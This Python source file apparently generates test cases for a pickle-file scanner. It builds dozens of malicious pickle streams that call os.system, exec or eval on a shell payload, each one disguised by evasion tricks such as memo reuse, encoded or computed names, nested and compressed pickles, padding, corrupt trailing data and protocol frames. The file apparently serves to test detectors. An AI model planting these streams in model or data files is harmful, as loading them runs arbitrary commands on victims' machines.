"""Stream tricks: memo games, computed names, broken streams, nested streams, padding, frames."""

from __future__ import annotations

import base64
import struct
import zlib
from collections.abc import Iterator

from attacks.case import (
    EXPRESSION,
    SHELL,
    STATEMENT,
    Case,
    Raw,
    call,
    called,
    glob,
    long,
    one,
    push,
    short,
    stack_glob,
    stream,
    system,
)

KIND = "stream"
TWO = b"\x80\x02"
FOUR = b"\x80\x04"
TAIL = push((SHELL,)) + b"R"


def memo() -> Iterator[Case]:
    yield one(KIND, "memo-get", stream(glob("os", "system") + b"q\x000" + b"h\x00" + TAIL, 2))
    yield one(
        KIND, "memo-long-index", stream(glob("os", "system") + b"r\xff\xff\x00\x000" + b"j\xff\xff\x00\x00" + TAIL, 2)
    )
    yield one(KIND, "memo-text-index", b"cos\nsystem\np0007\n0g7\n(V" + SHELL.encode() + b"\ntR.")
    yield one(
        KIND,
        "memo-overwritten",
        stream(glob("collections", "OrderedDict") + b"q\x000" + glob("os", "system") + b"q\x000h\x00" + TAIL, 2),
    )
    yield one(KIND, "memo-name-parts", stream(short("os") + b"\x940" + short("system") + b"\x940h\x00h\x01\x93" + TAIL))
    yield one(
        KIND,
        "memo-names-swapped",
        stream(short("numpy") + b"q\x000" + short("os") + b"q\x000h\x00" + short("system") + b"\x93" + TAIL),
    )
    yield one(KIND, "dup-and-pop", stream(glob("os", "system") + b"20" + TAIL, 2))
    yield one(
        KIND,
        "pop-mark-around",
        stream(b"(" + long("x") + glob("builtins", "int") + b"1" + glob("os", "system") + TAIL, 2),
    )
    yield one(KIND, "result-popped", stream(system() + b"0" + push({"weight": [1, 2]}), 2))
    yield one(
        KIND,
        "last-four-literals",
        stream(
            short("os")
            + short("system")
            + b"\x93"
            + b"q\x05"
            + b"("
            + short("numpy")
            + short("ndarray")
            + short("a")
            + short("b")
            + b"1"
            + TAIL
        ),
    )


def computed() -> Iterator[Case]:
    def named(name: Raw) -> bytes:
        return stream(Raw(short("os") + name + b"\x93" + TAIL))

    yield one(KIND, "name-concatenated", named(call("operator", "concat", "sys", "tem")))
    yield one(KIND, "name-joined", named(call("builtins", "str.join", "", ["sys", "tem"])))
    yield one(KIND, "name-decoded", named(call("codecs", "decode", "flfgrz", "rot13")))
    yield one(KIND, "name-from-bytes", named(call("builtins", "str", b"system", "ascii")))
    yield one(KIND, "name-reversed", named(call("builtins", "str.join", "", call("builtins", "reversed", "metsys"))))
    yield one(KIND, "name-from-string", stream(b"S'os'\nS'system'\n\x93" + TAIL))
    yield one(KIND, "name-escaped-string", stream(b"S'o\\x73'\nS'\\x73ystem'\n\x93" + TAIL))
    yield one(KIND, "name-escaped-unicode", stream(b"V\\u006fs\nVs\\u0079stem\n\x93" + TAIL))
    yield one(
        KIND,
        "name-binunicode8",
        stream(b"\x8d" + struct.pack("<Q", 2) + b"os\x8d" + struct.pack("<Q", 6) + b"system\x93" + TAIL),
    )
    yield one(KIND, "name-binstring", stream(b"U\x02osT\x06\x00\x00\x00system\x93" + TAIL))
    yield one(
        KIND,
        "name-from-list",
        stream(
            called(
                Raw(
                    called(
                        stack_glob("builtins", "getattr"),
                        call("importlib", "import_module", call("operator", "getitem", ["os", "re"], 0)),
                        "system",
                    )
                ),
                SHELL,
            )
        ),
    )
    yield one(KIND, "argument-computed", stream(call("os", "system", call("operator", "concat", SHELL[:5], SHELL[5:]))))
    yield one(
        KIND,
        "argument-base64",
        stream(call("builtins", "exec", call("base64", "b64decode", base64.b64encode(STATEMENT.encode())))),
    )


def broken() -> Iterator[Case]:
    body = bytes(system())
    yield one(KIND, "no-stop", TWO + body)
    yield one(KIND, "unknown-opcode-after", TWO + body + b"\xff\xfe.")
    yield one(KIND, "truncated-text-after", TWO + body + b"X\xff\xff\x00\x00ab")
    yield one(KIND, "stack-underflow-after", TWO + body + b"0000000R.")
    yield one(KIND, "missing-memo-after", TWO + body + b"h\x63.")
    yield one(KIND, "undecodable-text-after", TWO + body + b"X\x02\x00\x00\x00\xff\xfe.")
    yield one(KIND, "bad-integer-after", TWO + body + b"Inot-a-number\n.")
    yield one(KIND, "bad-global-after", TWO + body + b"cno_such_module\nname\n.")
    yield one(KIND, "bad-protocol-after", TWO + body + b"\x80\x63.")
    yield one(KIND, "bad-frame-after", FOUR + body + b"\x95" + struct.pack("<Q", 1 << 40) + b"N.")
    yield one(KIND, "negative-long-after", TWO + body + b"\x8b\xff\xff\xff\xff.")
    yield one(KIND, "wrong-newobj-after", TWO + body + b"NN\x81.")
    yield one(KIND, "persistent-id-after", TWO + body + b"Pweights\n.")
    yield one(KIND, "surrogate-before", TWO + b"X\x03\x00\x00\x00\xed\xa0\x800" + body + b".")


def nested() -> Iterator[Case]:
    inner = stream(system())
    yield one(KIND, "nested-loads", stream(call("pickle", "loads", inner)))
    yield one(KIND, "nested-c-loads", stream(call("_pickle", "loads", inner)))
    yield one(KIND, "nested-python2", stream(call("cPickle", "loads", inner), 2))
    yield one(KIND, "nested-twice", stream(call("pickle", "loads", stream(call("pickle", "loads", inner)))))
    yield one(
        KIND, "nested-compressed", stream(call("pickle", "loads", call("zlib", "decompress", zlib.compress(inner))))
    )
    yield one(KIND, "nested-in-file", stream(call("pickle", "load", call("io", "BytesIO", inner))))
    yield one(
        KIND,
        "nested-unpickler",
        stream(call("pickle", "_Unpickler.load", call("pickle", "_Unpickler", call("io", "BytesIO", inner)))),
    )


def layout() -> Iterator[Case]:
    body = bytes(system())
    good = stream(push({"weight": [1, 2]}), 2)
    yield one(KIND, "second-stream", good + stream(body, 2), loader="streams")
    yield one(KIND, "third-stream-after-empty", stream(b"N", 2) * 2 + stream(body, 2), loader="streams")
    yield one(KIND, "stream-after-nul-padding", good + b"\0" * 4096 + stream(body, 2), loader="streams-seek")
    yield one(KIND, "padding-none-pop", TWO + b"N0" * 200_000 + body + b".")
    yield one(
        KIND, "padding-long-text", TWO + b"X" + struct.pack("<I", 3_000_000) + b"a" * 3_000_000 + b"0" + body + b"."
    )
    yield one(KIND, "padding-many-numbers", TWO + b"](" + b"K\x01" * 300_000 + b"e0" + body + b".")
    yield one(KIND, "padding-many-strings", TWO + b"](" + long("layer.weight") * 100_000 + b"e" + body + b"\x86.")
    yield one(KIND, "proto-mid-stream", TWO + b"N0\x80\x04" + stack_glob("os", "system") + TAIL + b".")
    yield one(KIND, "proto-five-times", b"\x80\x00\x80\x01\x80\x02\x80\x03\x80\x04" + body + b".")
    yield one(KIND, "no-proto-stack-global", stack_glob("os", "system") + TAIL + b".")
    framed = bytes(stack_glob("os", "system")) + TAIL + b"."
    yield one(KIND, "one-frame", FOUR + b"\x95" + struct.pack("<Q", len(framed)) + framed)
    yield one(
        KIND,
        "frame-splits-name",
        FOUR + b"\x95" + struct.pack("<Q", 4) + short("os") + b"\x95" + struct.pack("<Q", len(framed) - 4) + framed[4:],
    )
    yield one(KIND, "empty-frames", FOUR + (b"\x95" + bytes(8)) * 9 + framed)
    yield one(KIND, "framed-in-protocol-2", TWO + b"\x95" + struct.pack("<Q", len(framed)) + framed)
    yield one(KIND, "double-quoted", b'cos\nsystem\n(S"' + SHELL.encode() + b'"\ntR.')
    yield one(KIND, "bytearray-blob-before", b"\x80\x05\x96" + struct.pack("<Q", 64) + b"." * 64 + b"0" + body + b".")
    yield one(KIND, "stop-inside-text", TWO + long("." * 50) + b"0" + body + b".")
    yield one(
        KIND,
        "expression-in-text-first",
        TWO + long("cos\nsystem\n") + b"0" + bytes(call("builtins", "eval", EXPRESSION)) + b".",
    )
    yield one(KIND, "deep-tuples-before", TWO + b")" + b"\x85" * 400 + b"0" + body + b".")


def cases() -> Iterator[Case]:
    yield from memo()
    yield from computed()
    yield from broken()
    yield from nested()
    yield from layout()
